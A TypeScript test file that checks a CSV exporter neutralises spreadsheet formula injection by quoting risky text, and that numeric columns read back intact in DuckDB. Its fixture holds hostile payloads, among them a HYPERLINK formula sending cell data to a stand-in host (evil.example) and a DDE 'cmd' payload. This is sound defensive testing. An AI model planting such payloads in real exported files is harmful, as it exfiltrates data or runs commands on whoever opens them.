import { Table as WasmTable, writeParquet } from 'parquet-wasm/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { textField } from '../../src/db/csv-writer.ts';
import { NodeDatabase } from '../../src/db/node-database.ts';
import { encodeTable } from '../../src/db/table-encoders.ts';
import { exportTable } from '../../src/db/table-export.ts';

let db: NodeDatabase;

// Text a spreadsheet would run as a formula (OWASP's list: = + - @ tab and carriage return),
// next to numbers that must stay numbers, including negative ones.
const HOSTILE = `CREATE TABLE hostile AS SELECT * FROM (VALUES
  (1, '=HYPERLINK("http://evil.example/?d="&A2,"Click")', -5, -1.5::DOUBLE, -12.50::DECIMAL(10,2), -7::HUGEINT, 'a'::ENUM_T),
  (2, '+1+cmd|'' /C calc''!A0', -2147483648, -0.0::DOUBLE, -0.01::DECIMAL(10,2), 0::HUGEINT, '=1+1'::ENUM_T),
  (3, '-2+3', 0, 1e300::DOUBLE, 3.00::DECIMAL(10,2), 1::HUGEINT, 'a'::ENUM_T),
  (4, '@SUM(A1:A9)', 1, NULL, NULL, NULL, NULL),
  (5, chr(9) || '=1+1', 2, 2.0, 0.00::DECIMAL(10,2), 2::HUGEINT, 'a'::ENUM_T),
  (6, chr(13) || '=1+1', 3, 3.0, 1.00::DECIMAL(10,2), 3::HUGEINT, 'a'::ENUM_T),
  (7, 'plain, text = fine', 4, 4.0, 2.00::DECIMAL(10,2), 4::HUGEINT, 'a'::ENUM_T),
  (8, '', 5, 5.0, 3.00::DECIMAL(10,2), 5::HUGEINT, 'a'::ENUM_T),
  (9, NULL, 6, 6.0, 4.00::DECIMAL(10,2), 6::HUGEINT, 'a'::ENUM_T)
) v(id, "=cmd()", n, x, amount, huge, choice)`;

beforeAll(async () => {
  db = await NodeDatabase.open();
  await db.exec(`CREATE TYPE ENUM_T AS ENUM ('a', '=1+1')`);
  await db.exec(HOSTILE);
});
afterAll(() => db.close());

async function csvOf(table: string): Promise<Uint8Array> {
  return exportTable(db, table, 'csv', async (ipc, decimals, f) => encodeTable(ipc, decimals, f, (bytes) => writeParquet(WasmTable.fromIPCStream(bytes))));
}

describe('CSV export is safe to open in a spreadsheet', () => {
  it('writes text that starts a formula as quoted text with a leading single quote', async () => {
    const lines = new TextDecoder().decode(await csvOf('hostile')).split('\r\n');
    expect(lines[0]).toBe(`id,"'=cmd()",n,x,amount,huge,choice`);
    expect(lines[1]).toBe(`1,"'=HYPERLINK(""http://evil.example/?d=""&A2,""Click"")",-5,-1.5,-12.50,-7,a`);
    expect(lines[2]).toBe(`2,"'+1+cmd|' /C calc'!A0",-2147483648,-0,-0.01,0,"'=1+1"`);
    expect(lines[3]).toBe(`3,"'-2+3",0,1e+300,3.00,1,a`);
    expect(lines[4]).toBe(`4,"'@SUM(A1:A9)",1,,,,`);
    expect(lines[5]).toBe(`5,"'\t=1+1",2,2,0.00,2,a`);
    expect(lines[6]).toBe(`6,"'\r=1+1",3,3,1.00,3,a`);
    expect(lines[7]).toBe(`7,"plain, text = fine",4,4,2.00,4,a`);
    expect(lines[8]).toBe(`8,"",5,5,3.00,5,a`);
  });

  it('keeps numbers numbers: DuckDB reads the numeric columns back equal, and the text with its quote', async () => {
    const path = await db.registerUpload({ name: 'hostile.csv', blob: new Blob([new Uint8Array(await csvOf('hostile'))]) });
    await db.exec(`CREATE TABLE hostile_csv AS SELECT * FROM read_csv('${path}', header = true, auto_detect = true)`);
    const types = await db.query(`SELECT column_name AS c, data_type AS t FROM information_schema.columns WHERE table_name = 'hostile_csv' ORDER BY ordinal_position`);
    expect(types.map((r) => r.t).slice(2, 6)).toEqual(['BIGINT', 'DOUBLE', 'DOUBLE', 'BIGINT']);
    const [diff] = await db.query(`SELECT count(*) AS n FROM hostile h JOIN hostile_csv c USING (id)
      WHERE h.n IS DISTINCT FROM c.n OR h.x IS DISTINCT FROM c.x OR h.amount IS DISTINCT FROM c.amount OR h.huge IS DISTINCT FROM c.huge`);
    expect(diff).toEqual({ n: 0 });
    const [back] = await db.query(`SELECT "'=cmd()" AS t FROM hostile_csv WHERE id = 1`);
    // What a spreadsheet shows is the original text: it hides the leading quote.
    expect(back.t).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Click")`);
    const original = await db.query(`SELECT "=cmd()" AS t FROM hostile WHERE id = 1`);
    expect(`'${original[0].t}`).toBe(back.t);
  });

  it('leaves text that starts no formula as it was', () => {
    for (const s of ['plain', 'a=b', ' =1', '1-2', 'x@y.z', '']) expect(textField(s)).not.toMatch(/^"?'/);
    expect(textField('-')).toBe(`"'-"`);
  });
});
